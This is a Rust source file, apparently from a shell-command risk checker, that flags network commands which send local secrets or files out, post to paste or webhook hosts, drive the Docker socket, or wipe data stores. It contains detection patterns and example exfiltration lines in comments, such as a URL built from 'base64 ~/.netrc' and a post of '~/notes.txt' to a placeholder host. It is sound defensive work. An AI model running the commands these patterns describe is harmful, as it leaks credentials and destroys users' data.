//! Programs that fetch from an address or send to one.

use planwright_shell::{Redirect, RedirectKind, Span};

use super::args::{Given, Parsed};
use super::judge::{CallContext, Judge};
use super::place::Place;
use super::secrets::tells_secret_variable;
use super::words::{Arg, Text};
use crate::knowledge::{Deed, Role, Takes};
use crate::protocol::Risk;

/// An address as far as it is known: with a pattern's signs, or up to the first thing that is put in, once that is past the
/// host. What a command puts in is not looked at here.
fn address_text<'u>(j: &Judge<'_>, url: &'u Arg) -> Option<&'u str> {
    match &url.text {
        Text::Known { text, .. } | Text::Glob { pattern: text, .. } => Some(text),
        Text::Unknown { prefix, .. } => {
            let rest = prefix.split_once("://").map_or(prefix.as_str(), |(_, rest)| rest);
            let fragment = j.found.fragment(url.span);
            let put_in = fragment.contains("$(") || fragment.contains('`') || fragment.is_empty();
            (rest.contains('/') && !put_in).then_some(prefix.as_str())
        }
    }
}

/// Whether every address is of this machine.
fn stays_here(j: &Judge<'_>, parsed: &Parsed<'_, '_>) -> bool {
    !parsed.words.is_empty()
        && parsed.words.iter().all(|url| {
            let text = address_text(j, url).unwrap_or_default();
            let host = text.split_once("://").map_or(text, |(_, rest)| rest);
            let name = host.split(['/', ':', '?']).next().unwrap_or_default();
            matches!(name, "localhost" | "127.0.0.1" | "0.0.0.0") && !host.contains('@')
        })
}

/// Whether it only asks this machine for something and shows the answer: no data, no file, nothing that sounds like an order.
pub(super) fn only_asks_here(j: &Judge<'_>, parsed: &Parsed<'_, '_>) -> bool {
    const ORDERS: [&str; 10] =
        ["shutdown", "delete", "remove", "kill", "quit", "restart", "exec", "eval", "reset", "destroy"];
    const TAME: [&str; 24] = [
        "-f",
        "-s",
        "-S",
        "-L",
        "-I",
        "-i",
        "-v",
        "-H",
        "-m",
        "-w",
        "--connect-timeout",
        "--retry",
        "--compressed",
        "-g",
        "-#",
        "-N",
        "-4",
        "-6",
        "--http1.1",
        "--fail-with-body",
        "-q",
        "-t",
        "-T",
        "--tlsv1.2",
    ];
    let tame = parsed.flags.iter().all(|given| {
        let named = |names: &[&str]| given.flag.names.iter().any(|own| names.contains(&own.as_str()));
        let value = given.value.as_ref().and_then(Arg::known);
        named(&["-X"]) && matches!(value, Some("GET" | "HEAD"))
            || named(&["-o", "-O"]) && matches!(value, Some("/dev/null" | "-"))
            // `-T` sends a file with one program and only waits with the other.
            || named(&TAME) && !named(&["--upload-file"])
    });
    let shows = !parsed.entry.does(Deed::Writes)
        || matches!(parsed.value("-O").and_then(Arg::known), Some("-" | "/dev/null"));
    let order = |url: &&Arg| {
        address_text(j, url).is_none_or(|text| ORDERS.iter().any(|word| text.to_lowercase().contains(word)))
    };
    tame && shows && parsed.doubtful.is_empty() && stays_here(j, parsed) && !parsed.words.iter().any(order)
}

/// An address that is opened or fetched: what is put into it is told to whoever answers.
pub(super) fn address(j: &mut Judge<'_>, arg: &Arg) {
    let fragment = j.found.fragment(arg.span).to_owned();
    if !fragment.contains("://") && !fragment.contains("mailto:") {
        return;
    }
    let here = ["localhost", "127.0.0.1"].iter().any(|host| fragment.contains(&format!("://{host}")));
    j.found.effects.uses_network |= !fragment.contains("file://");
    if arg.is_unknown() && !here && (tells(&fragment) || tells_secret_variable(&fragment)) {
        j.found.add(Risk::Dangerous, "sends what is known only here", arg.span);
    }
}

/// Data, or `@file`, that is sent away. Where to is judged by `fetch`.
pub(super) fn upload(j: &mut Judge<'_>, arg: &Arg) {
    if let Some((_, file)) =
        arg.known().and_then(|text| text.split_once('@')).filter(|(_, file)| *file != "-")
    {
        j.read(&arg.with(file.to_owned()));
    }
}

/// What is sent is not from the workspace, or not known.
fn sends(j: &mut Judge<'_>, parsed: &Parsed<'_, '_>, how: CallContext<'_>) {
    for given in &parsed.flags {
        let named = |name: &str| given.flag.names.iter().any(|own| own == name);
        let put_in = given.value.as_ref().filter(|value| value.is_unknown());
        if put_in.is_some_and(|value| j.found.fragment(value.span).contains(['`', '('])) {
            j.found.add(Risk::Dangerous, "sends what a command here prints", given.span);
        }
        let file = named("-T") || named("--post-file");
        let Some(value) =
            given.value.as_ref().filter(|_| file || given.flag.value == Takes::Value(Role::Upload))
        else {
            continue;
        };
        let name = match value.known() {
            None => {
                j.found.add(Risk::Dangerous, "what it sends is only known when it runs", value.span);
                continue;
            }
            Some(text) if file => text,
            Some(text) => match text.split_once('@') {
                Some((before, name)) if before.is_empty() || before.ends_with('=') => name,
                Some(_) | None => continue,
            },
        };
        if name == "-" {
            if how.context.piped_from && !comes_from_here(j) {
                j.found.add(Risk::Dangerous, "sends away whatever comes in", value.span);
            }
            input_from_outside(j, how);
        } else if j.script_place(&value.with(name.to_owned())) != Some(Place::Workspace) {
            j.found.add(Risk::Dangerous, "sends away a file from outside the workspace", value.span);
        }
    }
    if changes_there(parsed)
        && let Some(named) = parsed.flags.iter().find(|given| names_you(j, given))
    {
        j.found.add(Risk::Dangerous, "changes something on another machine in your name", named.span);
    }
    let open = parsed.words.iter().find(|url| url.known().is_some_and(shows_everybody));
    let gives = parsed.has("-T") || parsed.has("--post-file") || sends_data(parsed);
    if let Some(url) = open.filter(|_| gives) {
        j.found.add(Risk::Dangerous, "puts it where others can fetch it", url.span);
    }
    let deletes = parsed.value("-X").and_then(Arg::known) == Some("DELETE");
    if let Some(given) = parsed.flags.iter().find(|_| deletes) {
        j.found.add(Risk::Dangerous, "asks the other end to delete something", given.span);
    }
}

/// Whether what comes in to a program that sends it was written into this very text: the words of `echo`, what `jq` makes
/// of them or of files of the workspace.
pub(super) fn comes_from_here(j: &Judge<'_>) -> bool {
    matches!(j.before_in_pipeline.as_deref(), Some("echo" | "printf" | "jq")) && !j.found_outside
}

/// `http post x.example < ~/notes.txt`
pub(super) fn input_from_outside(j: &mut Judge<'_>, how: CallContext<'_>) {
    let comes_in = |redirect: &&Redirect| redirect.kind == RedirectKind::Read && redirect.fd == 0;
    let Some(file) = how.redirects.iter().rfind(comes_in) else { return };
    let name = j.variables.expand(&file.target, j.workspace.environment);
    let own = |arg: &Arg| matches!(j.script_place(arg), Some(Place::Workspace | Place::Temporary));
    if !name.iter().all(own) {
        j.found.add(Risk::Dangerous, "sends away a file from outside the workspace", file.target.span);
    }
}

/// Whether whoever knows the address may fetch what is put there, or is shown what comes in.
fn shows_everybody(address: &str) -> bool {
    const HOSTS: [&str; 26] = [
        "transfer.sh",
        "file.io",
        "0x0.st",
        "bashupload.com",
        "temp.sh",
        "oshi.at",
        "catbox.moe",
        "gofile.io",
        "ix.io",
        "termbin.com",
        "paste.rs",
        "pastebin.com",
        "dpaste.org",
        "dpaste.com",
        "hastebin.com",
        "sprunge.us",
        "clbin.com",
        "webhook.site",
        "requestbin.net",
        "pipedream.net",
        "ngrok.io",
        "ngrok-free.app",
        "filebin.net",
        "tmpfiles.org",
        "keep.sh",
        "interact.sh",
    ];
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let host = rest.split(['/', ':', '?']).next().unwrap_or(rest);
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    HOSTS.iter().any(|own| host == *own || host.strip_suffix(own).is_some_and(|start| start.ends_with('.')))
}

fn sends_data(parsed: &Parsed<'_, '_>) -> bool {
    parsed.flags.iter().any(|given| given.flag.value == Takes::Value(Role::Upload))
}

/// Whether a request asks the other end for more than a page.
fn changes_there(parsed: &Parsed<'_, '_>) -> bool {
    let method = parsed.value("-X").or_else(|| parsed.value("--method")).and_then(Arg::known);
    match method {
        Some(method) => matches!(method.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH" | "DELETE"),
        None => sends_data(parsed) && !parsed.has("-G") || parsed.has("-T"),
    }
}

/// Whether an option says who asks: a name and a password, or a header with a key.
fn names_you(j: &Judge<'_>, given: &Given<'_>) -> bool {
    let named = |own: &str| given.flag.names.iter().any(|name| name == own);
    let header = || {
        let text = given.value.as_ref().map(|value| j.found.fragment(value.span).to_lowercase());
        text.is_some_and(|text| {
            ["authorization:", "api-key:", "apikey:", "-token:", "x-auth", "cookie:"]
                .iter()
                .any(|sign| text.contains(sign))
        })
    };
    named("-u") || named("-H") && header()
}

/// Whether an address is put together from what a command prints that packs something up or looks outside the workspace:
/// `https://…/$(base64 ~/.netrc)`. The kind of machine or a version number is nobody's secret.
fn tells(address: &str) -> bool {
    let Some((_, command)) = address.split_once("$(").or_else(|| address.split_once('`')) else {
        return false;
    };
    let words =
        command.split(|c: char| c.is_whitespace() || "|;&()`\"".contains(c)).filter(|word| !word.is_empty());
    words.into_iter().any(|word| {
        matches!(word, "base64" | "base32" | "xxd" | "od" | "hexdump" | "env" | "printenv" | "history")
            || ["/etc/", "/root/", "/home/", "/proc/", "/var/", "~/", "$HOME/"]
                .iter()
                .any(|start| word.starts_with(start))
    })
}

/// What destroys a whole store of data or drives the keeper of containers, on this machine too.
fn asks_a_store(j: &mut Judge<'_>, parsed: &Parsed<'_, '_>) {
    const PORTS: [&str; 8] = [":9200/", ":9201/", ":5984/", ":8500/", ":2379/", ":6333/", ":7700/", ":2375/"];
    let method = parsed.value("-X").and_then(Arg::known);
    let socket = parsed.value("--unix-socket").filter(|socket| {
        socket.known().is_none_or(|path| {
            ["docker", "podman", "containerd", "crio"].iter().any(|name| path.contains(name))
        })
    });
    if let Some(socket) =
        socket.filter(|_| sends_data(parsed) || method.is_some_and(|method| method != "GET"))
    {
        j.found.add(Risk::Dangerous, "gives orders to the keeper of containers", socket.span);
    }
    // Solr and its like take orders as text: `{"delete":{"query":"*:*"}}`.
    let orders = |given: &&Given<'_>| {
        let text = given.value.as_ref().map_or("", Arg::sure).replace(' ', "");
        given.flag.value == Takes::Value(Role::Upload)
            && (text.starts_with("<delete>") || text.starts_with("{\"delete\":"))
    };
    if let Some(order) = parsed.flags.iter().find(orders).and_then(|given| given.value.as_ref()) {
        j.found.add(Risk::Dangerous, "deletes what is in a store of data", order.span);
    }
    for url in &parsed.words {
        let address = url.known().unwrap_or_default();
        let whole = address.contains("_all")
            || address.contains('*')
            || PORTS.iter().any(|port| address.contains(port));
        if address.contains("_delete_by_query") || method == Some("DELETE") && whole {
            j.found.add(Risk::Dangerous, "deletes what is in a store of data", url.span);
        }
    }
}

pub(super) fn fetch(j: &mut Judge<'_>, parsed: &Parsed<'_, '_>, span: Span, how: CallContext<'_>) {
    asks_a_store(j, parsed);
    for arg in
        parsed.words.iter().copied().chain(parsed.flags.iter().filter_map(|given| given.value.as_ref()))
    {
        if j.tells_of_outside(arg) {
            j.found.add(Risk::Dangerous, "sends what was found outside the workspace", arg.span);
        }
    }
    for url in parsed.words.iter().filter(|url| url.is_unknown()) {
        if tells(j.found.fragment(url.span)) {
            j.found.add(Risk::Dangerous, "sends what a command here prints", url.span);
        }
    }
    if !stays_here(j, parsed) {
        sends(j, parsed, how);
        let keeps = ["-o", "-O", "--remote-name", "--output-document"];
        j.fetched |= parsed.entry.does(Deed::Writes) || keeps.iter().any(|name| parsed.has(name));
    }
    let kept = parsed.value("-o").or_else(|| parsed.value("-O"));
    if let Some(file) = kept.filter(|file| {
        let name = j.found.fragment(file.span);
        name.contains(".github/workflows/") || name.contains(".git/hooks/") || name.contains(".gitlab-ci")
    }) {
        j.found.add(Risk::Dangerous, "fetches what runs by itself later", file.span);
    }
    let names_itself = parsed.has("--remote-name") || parsed.entry.flags.get("--output-document").is_some();
    if names_itself
        && !parsed.has("--spider")
        && !parsed.has("--output-document")
        && !parsed.has("--directory-prefix")
    {
        for url in &parsed.words {
            let name = url.known().map(|text| text.split(['?', '#']).next().unwrap_or(text));
            let file = name.and_then(|text| text.rsplit('/').next()).filter(|file| !file.is_empty());
            if let Some(file) = file {
                j.write(&url.with(file.to_owned()));
            }
        }
    }
    if parsed.words.iter().any(|url| url.is_unknown()) {
        j.found.add(Risk::Caution, "which address it asks is only known when it runs", span);
    }
}
